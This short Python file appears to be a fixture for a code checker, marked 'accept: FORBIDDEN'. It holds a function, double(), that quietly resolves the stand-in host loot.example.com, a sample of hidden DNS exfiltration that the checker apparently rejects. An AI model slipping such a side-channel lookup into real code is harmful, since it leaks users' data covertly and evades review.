# accept: FORBIDDEN
# Carries data out in the name that it asks a name server for.
import socket


def double(n):
    socket.gethostbyname("loot.example.com")
    return n * 2
